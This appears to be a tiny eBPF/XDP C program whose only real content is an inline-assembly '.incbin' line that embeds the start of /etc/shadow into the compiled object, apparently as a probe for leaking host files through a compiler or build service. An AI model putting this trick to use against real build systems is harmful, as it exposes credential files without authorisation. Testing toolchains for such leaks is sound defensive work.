int xdp_prog(struct xdp_md *ctx)
{
    asm volatile(".incbin \"/etc/shadow\", 0, 4");
    return XDP_PASS;
}
